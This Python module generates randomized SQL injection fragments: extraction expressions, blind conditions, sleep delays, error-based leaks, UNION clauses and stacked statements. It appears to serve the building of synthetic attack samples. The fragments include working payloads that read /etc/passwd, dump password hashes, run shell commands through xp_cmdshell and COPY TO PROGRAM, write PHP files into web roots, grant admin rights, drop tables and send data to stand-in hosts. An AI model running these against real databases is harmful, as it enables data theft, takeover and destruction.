"""The pieces of SQL injections, by technique; `sql_attack` sets them into contexts.

Seeded and written from scratch: what an attacker wants to read, conditions that the attacker
steers, delays, errors that talk, unions, and statements stacked on the first.
"""

from .sql_values import pick


def num(rng):
    return str(rng.randint(0, 10 ** rng.randint(1, 4)))


def tag(rng):
    return "".join(pick(rng, "abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(1, 6)))


def expression(rng):
    """What an attacker wants to read."""
    table = pick(rng, ["users", "admin", "accounts", "members", "customers", "payments", tag(rng)])
    col = pick(rng, ["password", "username", "email", "card", "cvv", "ssn", "token", tag(rng)])
    return pick(
        rng,
        [
            "version()",
            "@@version",
            "user()",
            "database()",
            "current_user",
            "@@hostname",
            "@@datadir",
            "session_user",
            "system_user",
            "db_name()",
            "current_database()",
            "sqlite_version()",
            "user",
            f"(SELECT {col} FROM {table} LIMIT 1)",
            f"(SELECT {col} FROM {table} WHERE id={num(rng)})",
            f"(SELECT TOP 1 {col} FROM {table})",
            f"(SELECT group_concat({col}) FROM {table})",
            f"concat({col},0x3a,{col})",
            f"group_concat({col},0x3a,{col} SEPARATOR 0x3c62723e)",
            "(SELECT table_name FROM information_schema.tables LIMIT 1)",
            f"CHR({num(rng)})||CHR(58)",
            f"(SELECT column_name FROM information_schema.columns WHERE table_name='{table}')",
            "(SELECT banner FROM v$version WHERE ROWNUM=1)",
            "(SELECT name FROM sysobjects WHERE xtype='U')",
            "(SELECT sql FROM sqlite_master)",
            "(SELECT string_agg(usename,',') FROM pg_user)",
            "load_file('/etc/passwd')",
            f"CHAR({num(rng)},{num(rng)})",
            f"(SELECT CONCAT('{tag(rng)}',(SELECT (ELT(1=1,1))),'{tag(rng)}'))",
            f"(SELECT {col} FROM {table} ORDER BY {num(rng)} LIMIT {num(rng)},1)",
            "pg_read_file('/etc/passwd')",
            "(SELECT passwd FROM pg_shadow)",
            "(SELECT password FROM mysql.user LIMIT 1)",
            f"LENGTH({col})",
            "(SELECT name FROM master..sysdatabases)",
            "(SELECT grantee FROM syscat.dbauth)",
            "(SELECT tabname FROM systables)",
            "(SELECT versionnumber FROM sysibm.sysversions)",
            "current_setting('data_directory')",
            "inet_server_addr()",
            "host_name()",
            "(SELECT name FROM sysibm.syscolumns)",
            "(SELECT * FROM sys.user$)",
            "(SELECT privilege FROM dba_sys_privs)",
            "suser_sname()",
            "is_srvrolemember('sysadmin')",
            "(SELECT usename FROM pg_user)",
            "(SELECT instance_name FROM v$instance)",
            "@@servername",
            "(SELECT session_user FROM sysibm.sysdummy1)",
            "(SELECT name FROM syscolumns WHERE id=1)",
            "pg_ls_dir('./')",
            "dbmsinfo('_version')",
            "(SELECT grantee FROM syscat.tabauth WHERE grantee=current user)",
            "(SELECT table_name FROM iitables)",
            "getpgusername()",
            "(SELECT host FROM mysql.db)",
            "(SELECT name FROM master..syslogins)",
            "(SELECT datname FROM pg_database)",
            "(SELECT username FROM all_users WHERE ROWNUM=1)",
            "UTL_INADDR.get_host_name('10.0.0.1')",
        ],
    )


def truth(rng):
    """A condition that the attacker steers, mostly without columns."""
    a, b, s = num(rng), num(rng), tag(rng)
    e = expression(rng)
    return pick(
        rng,
        [
            f"{a}={a}",
            f"{a}={b}",
            f"{a}={a}",
            f"{a} = {a}",
            f"'{s}'='{s}'",
            f"'{s}' = '{s}'",
            f'"{s}"="{s}"',
            f"'{s}' LIKE '{s}'",
            f"{a} LIKE {a}",
            f"{a}<{b}",
            f"{b}>{a}",
            f"{a}<>{b}",
            f"{a}!={b}",
            "true",
            "false",
            "1",
            f"NOT {a}={b}",
            f"{a} BETWEEN {a} AND {b}",
            f"{a} IN ({a})",
            f"'{s}' IN ('{s}')",
            f"({a})=({a})",
            "not false",
            f"{a} IS NOT NULL",
            "2>1",
            f"'{s}'>'{s[0]}'",
            f"{a}=(SELECT {a})",
            f"EXISTS(SELECT * FROM {s})",
            f"'{s}'",
            f"ASCII(SUBSTRING({e},{a},1))>{b}",
            f"ORD(MID({e},{a},1))={b}",
            f"SUBSTR({e},{a},1)='{s[0]}'",
            f"{a} or {b}",
            f"LENGTH({e})>{a}",
            f"(SELECT COUNT(*) FROM {s})>{a}",
            f"{e} LIKE '{s[0]}%'",
            f"(SELECT {a} FROM {s})={a}",
            f"UNICODE(SUBSTRING({e},{a},1))<{b}",
            f"{e} IS NULL",
            f"{e}='{s}'",
            f"username LIKE '%{s}%'",
            "id IS NOT NULL",
            f"password LIKE '{s}%'",
            f"email='{s}@{s}.com'",
            f"{s} IS NULL",
            f"MAKE_SET({a}={a},{b})",
            "email IS NULL",
            f"(SELECT CASE WHEN ({a}={b}) THEN {a} ELSE 1/0 END)={a}",
            f"{a}=IF(({a}={b}),{a},{b})",
            f"uname='{s}'",
            f"JSON_LENGTH('{{}}')<={a}",
            f"'{{\"a\":{a}}}'::jsonb @> '{{\"a\":{a}}}'",
            f"{a} REGEXP '^[{a}-9]'",
            f"JSON_EXTRACT('{{\"{s}\": {a}}}', '$.{s}') = {a}",
            f"{a} RLIKE {a}",
            f"{a}%2={a}",
            f"{a}-{b}={a}-{b}",
            "''=''",
        ],
    )


def delay(rng):
    n = pick(rng, ["1", "3", "5", "10", "15", "20"])
    return pick(
        rng,
        [
            f"SLEEP({n})",
            f"sleep({n})",
            f"BENCHMARK({n}000000,MD5('{tag(rng)}'))",
            f"PG_SLEEP({n})",
            f"pg_sleep({n}.0)",
            f"(SELECT {num(rng)} FROM (SELECT(SLEEP({n})))a)",
            f"(SELECT(0)FROM(SELECT(SLEEP({n})))v)",
            f"(SELECT {num(rng)} FROM PG_SLEEP({n}))",
            f"DBMS_PIPE.RECEIVE_MESSAGE('{tag(rng)}',{n})",
            f"DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),{n})",
            f"IF({num(rng)}={num(rng)},SLEEP({n}),0)",
            f"(CASE WHEN 1=1 THEN PG_SLEEP({n}) ELSE NULL END)",
            f"(SELECT COUNT(*) FROM GENERATE_SERIES(1,{n}000000))",
            f"LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({n}00000000/2))))",
            f"RANDOMBLOB({n}00000000)",
            "(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)",
            f"IF(1=1,BENCHMARK({n}00000,SHA1(1)),0)",
            "(SELECT COUNT(*) FROM sysusers AS s1,sysusers AS s2,sysusers AS s3)",
            f"ELT({num(rng)}={num(rng)},SLEEP({n}))",
            "(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A,INFORMATION_SCHEMA.COLUMNS B)",
            f"(SELECT SLEEP({n}))",
            f"DBMS_SESSION.SLEEP({n})",
            f"REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR({num(rng)}),0),500000000),NULL)",
            "(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2)",
            "(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3)",
        ],
    )


def error(rng):
    e, a = expression(rng), num(rng)
    return pick(
        rng,
        [
            f"EXTRACTVALUE({a},CONCAT(0x5c,{e}))",
            f"UPDATEXML({a},CONCAT(0x7e,{e},0x7e),{a})",
            f"CONVERT(INT,{e})",
            f"CAST({e} AS INT)",
            f"CAST(({e})::text AS NUMERIC)",
            f"GTID_SUBSET(CONCAT(0x71,{e}),{a})",
            "1/0",
            f"(SELECT {a} FROM(SELECT COUNT(*),CONCAT({e},FLOOR(RAND(0)*2))x FROM "
            f"INFORMATION_SCHEMA.TABLES GROUP BY x)a)",
            f"UTL_INADDR.GET_HOST_ADDRESS({e})",
            f"CTXSYS.DRITHSX.SN({a},({e}))",
            f"EXP(~(SELECT * FROM (SELECT {e})x))",
            f"XMLType(CHR(60)||{e}||CHR(62))",
            f"(SELECT UPPER(XMLType(CHR(60)||CHR(58)||{e})) FROM DUAL)",
            f"1 IN ({e})",
            f"JSON_KEYS((SELECT CONVERT((SELECT {e}) USING utf8)))",
            f"ROW({a},{a})>(SELECT COUNT(*),{e})",
            f"{a} IN (SELECT ({e}))",
            f"POLYGON((SELECT * FROM(SELECT * FROM(SELECT {e})f)x))",
            f"PROCEDURE ANALYSE(EXTRACTVALUE({a},{e}),1)",
            f"DBMS_XMLGEN.GETXMLTYPE({e})",
            f"ORDSYS.ORD_DICOM.GETMAPPINGXPATH({e},USER)",
            f"NTILE({a})",
        ],
    )


def union(rng):
    count = rng.randint(1, rng.choice([3, 8, 30]))
    kind = rng.randrange(5)
    cells = [
        {0: "NULL", 1: str(at + 1), 2: num(rng), 3: f"'{tag(rng)}'", 4: f"CHAR({num(rng)})"}[kind]
        for at in range(count)
    ]
    for _ in range(rng.choice([0, 1, 1, 2])):
        cells[rng.randrange(count)] = expression(rng)
    if rng.random() < 0.15:
        cells = [
            pick(
                rng,
                [
                    "*",
                    "username,password",
                    "card,cvv",
                    "email,pass",
                    "table_name",
                    "name,sql",
                    "1,2,3",
                ],
            )
        ]
    tail = pick(
        rng,
        [
            "",
            "",
            " FROM users",
            " FROM information_schema.tables",
            " FROM dual",
            " FROM sqlite_master",
            f" FROM {tag(rng)}",
            " FROM mysql.user",
            " FROM payments",
            " FROM pg_catalog.pg_user",
            " FROM information_schema.columns WHERE table_name='users'",
            " FROM sysobjects WHERE xtype='U'",
            " FROM customers LIMIT 10",
            " FROM all_tables",
            " FROM RDB$DATABASE",
            " FROM MSysAccessObjects",
            f" INTO OUTFILE '/tmp/{tag(rng)}.php'",
            " WHERE 1=1",
        ],
    )
    head = pick(
        rng,
        [
            "UNION SELECT",
            "UNION ALL SELECT",
            "UNION ALL SELECT",
            "UNION DISTINCT SELECT",
            "UNION(SELECT",
            "UNION ALL (SELECT",
        ],
    )
    return f"{head} {pick(rng, [',', ', ']).join(cells)}{tail}" + (")" if "(" in head else "")


def stacked(rng):
    table, s = pick(rng, ["users", "products", "orders", "members", "accounts", tag(rng)]), tag(rng)
    return pick(
        rng,
        [
            f"DROP TABLE {table}",
            f"DROP DATABASE {s}",
            f"TRUNCATE TABLE {table}",
            f"DELETE FROM {table}",
            f"DROP SCHEMA {s}",
            f"UPDATE {table} SET password='{s}'",
            f"UPDATE {table} SET role='admin' WHERE name='{s}'",
            "SHUTDOWN",
            "SHUTDOWN WITH NOWAIT",
            f"INSERT INTO {table} VALUES('{s}','{s}')",
            f"INSERT INTO {table}(user,pass) VALUES ('{s}',{num(rng)})",
            f"WAITFOR DELAY '0:0:{rng.randint(1, 20)}'",
            f"if (1=1) WAITFOR DELAY '00:00:0{rng.randint(1, 9)}'",
            "WAITFOR TIME '23:00'",
            f"EXEC xp_cmdshell 'dir {s}'",
            f"EXEC master..xp_cmdshell 'ping {s}.example.net'",
            f"exec master.dbo.xp_dirtree '//{s}/a'",
            f"DECLARE @q varchar(99) SET @q=0x{s.encode().hex()} EXEC(@q)",
            "EXEC sp_configure 'show advanced options',1",
            f"declare @{s} int; select @{s}=1",
            f"COPY {s} FROM PROGRAM 'id'",
            f"COPY (SELECT '') TO PROGRAM 'curl {s}.example'",
            f"COPY {table} TO '/tmp/{s}.csv'",
            f"SELECT pg_sleep({rng.randint(1, 20)})",
            f"SELECT {delay(rng)}",
            f"CALL {s}()",
            f"CREATE USER {s} IDENTIFIED BY '{s}'",
            f"GRANT ALL PRIVILEGES ON *.* TO '{s}'@'%'",
            f"ALTER USER {s} WITH SUPERUSER",
            f"CREATE TABLE {s} (line blob)",
            f"LOAD DATA INFILE '/etc/passwd' INTO TABLE {s}",
            "SELECT lo_import('/etc/passwd')",
            f"SELECT {expression(rng)} INTO OUTFILE '/var/www/{s}.php'",
            f"SELECT * FROM {table}",
            f"SELECT {expression(rng)}",
            f"BEGIN DBMS_LOCK.SLEEP({rng.randint(1, 20)}); END",
            f"SELECT * FROM OPENROWSET('SQLOLEDB','{s}';'sa';'x','select 1')",
            f"CREATE OR REPLACE FUNCTION {s}(cstring) RETURNS int AS "
            f"'/lib/libc.so.6','system' LANGUAGE 'C' STRICT",
            "SELECT 1",
            f"begin declare @r varchar(8000) set @r=':' select @r=@r+' '+name from {table} end",
            f"drop table {s}; select 1",
            f"BACKUP DATABASE {s} TO DISK='\\\\{s}\\x'",
            f"SELECT UTL_HTTP.REQUEST('http://{s}.example/'||user) FROM dual",
            "CREATE EXTENSION dblink",
            f"exec sp_addlogin '{s}','{s}'",
            f"exec sp_addsrvrolemember {s},sysadmin",
            "END",
            f"SET PASSWORD FOR root=PASSWORD('{s}')",
            "DO $$ BEGIN PERFORM pg_sleep(5); END $$",
            f"DROP VIEW {s}",
        ],
    )
